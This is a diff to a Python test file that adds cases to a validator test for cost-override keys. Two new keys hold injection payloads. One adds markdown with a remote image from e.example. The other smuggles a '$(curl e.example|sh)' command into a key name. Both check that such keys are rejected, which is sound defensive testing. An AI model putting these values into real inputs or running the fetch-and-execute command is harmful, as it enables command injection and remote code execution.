@@ -845,6 +845,9 @@ def test_version_2_json_without_cost_overrides_still_loads():
         ({"feu_per_truck_kit": True}, "expected a number from 0 to"),
         ({"feu_per_truck_kit": "lots"}, "expected a number or the id of a cost parameter row"),
         ({"feu_per_truck_kit": [1]}, "expected a number from 0"),
+        # the Cost page shows every key in its command line: no markup, quotes or line breaks
+        ({"feu_per_truck_kit@x\n\n# Pwned ![t](https://e.example/p.png)": 2}, "after '@' comes"),
+        ({"feu_per_truck_kit@x;$(curl e.example|sh)": 2}, "after '@' comes 'all', a market"),
         ([1, 2], "cost_overrides: expected an object"),
     ],
 )
